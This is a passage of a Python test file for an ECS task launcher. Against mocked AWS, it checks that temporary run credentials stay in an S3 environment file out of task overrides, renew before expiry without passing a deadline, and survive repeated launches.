    task = aws["ecs"].describe_tasks(cluster="airlaunch-test", tasks=[ref], include=["TAGS"])["tasks"][0]
    [override] = task["overrides"]["containerOverrides"]
    assert with_sessions.run_sessions is not None
    files = with_sessions.run_sessions.files(identity)
    assert override["environmentFiles"] == [
        {"type": "s3", "value": f"arn:aws:s3:::airlaunch-ecs-test/{files.env_file}"}
    ]
    assert files.env_file.startswith("runs-sessions/ecs_tests/") and files.env_file.endswith("/session.env")
    stored = aws["s3"].get_object(Bucket="airlaunch-ecs-test", Key=files.env_file)
    [line] = stored["Body"].read().decode().splitlines()
    name, _, value = line.partition("=")
    session = json.loads(value)
    assert name == "AIRLAUNCH_RUN_CREDENTIALS" and session["RenewalKey"] == files.renewal
    shown = json.dumps(task, default=str)
    assert "AIRLAUNCH_RUN_CREDENTIALS" not in shown
    assert not [v for k, v in session.items() if k in ("AccessKeyId", "SecretAccessKey", "SessionToken") and v in shown]
    deadline = datetime.fromisoformat(stored["Metadata"]["deadline"].replace("Z", "+00:00")).timestamp()
    timeout = CATALOG.get("task_one").timeout_seconds
    assert started + timeout + 1800 <= deadline <= time.time() + timeout + 1800 + 1


def test_an_environment_variable_named_like_the_run_session_never_reaches_runtask(
    stubbed: tuple[EcsBackend, Stubber],
) -> None:
    backend, _ = stubbed
    params = backend.run_task_params(CATALOG.get("task_one"), _identity("x"), {"AIRLAUNCH_RUN_CREDENTIALS": "{}"})
    [override] = params["overrides"]["containerOverrides"]
    assert override["environment"] == [] and "environmentFiles" not in override


def test_run_sessions_are_renewed_near_their_end_and_never_past_the_deadline(
    with_sessions: EcsBackend, aws: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    sessions = with_sessions.run_sessions
    assert sessions is not None
    now = [time.time()]
    sessions.clock = lambda: now[0]
    monkeypatch.setattr("moto.sts.models.utcnow", lambda: datetime.fromtimestamp(now[0], UTC).replace(tzinfo=None))
    identity = _identity("renew")
    sessions.start(identity, 3 * 3600, first_start=True)
    layout = ResultLayout.for_identity("airlaunch-ecs-test", "runs", identity)
    files = sessions.files(identity)

    assert not sessions.renew(layout), "an hour left: nothing to do"
    now[0] += 35 * 60
    assert sessions.renew(layout)
    first = json.loads(aws["s3"].get_object(Bucket="airlaunch-ecs-test", Key=files.renewal)["Body"].read())
    assert not sessions.renew(layout), "the renewal has an hour left"
    now[0] += (3 * 3600 + 1800) - 35 * 60 - 20 * 60  # 20 minutes before the deadline
    assert sessions.renew(layout)
    last = aws["s3"].head_object(Bucket="airlaunch-ecs-test", Key=files.renewal)["Metadata"]
    ends = [datetime.fromisoformat(last[k].replace("Z", "+00:00")) for k in ("deadline", "expiration")]
    assert 0 <= (ends[1] - ends[0]).total_seconds() < 2, "the last session ends at the deadline, not an hour on"
    assert (
        json.loads(aws["s3"].get_object(Bucket="airlaunch-ecs-test", Key=files.renewal)["Body"].read())["AccessKeyId"]
        != first["AccessKeyId"]
    )
    assert not sessions.renew(layout), "no session reaches past the deadline"

    sessions.end(layout)
    listed = aws["s3"].list_objects_v2(Bucket="airlaunch-ecs-test", Prefix=files.prefix)
    assert listed.get("KeyCount", 0) == 0


def test_a_first_start_keeps_the_session_file_a_repeated_launch_handed_over(
    with_sessions: EcsBackend, aws: dict[str, Any]
) -> None:
    """The same try started twice (its task not yet listed): ECS returns the task the first RunTask started,
    which read the first file, so the reaper must keep reading that session's expiry; a start again after a
    failed start writes a new one."""
    sessions = with_sessions.run_sessions
    assert sessions is not None
    identity = _identity("twice")
    key = sessions.files(identity).env_file
    sessions.start(identity, 600, first_start=True)
    first = aws["s3"].get_object(Bucket="airlaunch-ecs-test", Key=key)["Body"].read()
    sessions.start(identity, 600, first_start=True)
    assert aws["s3"].get_object(Bucket="airlaunch-ecs-test", Key=key)["Body"].read() == first
    sessions.start(identity, 600, first_start=False)
    assert aws["s3"].get_object(Bucket="airlaunch-ecs-test", Key=key)["Body"].read() != first
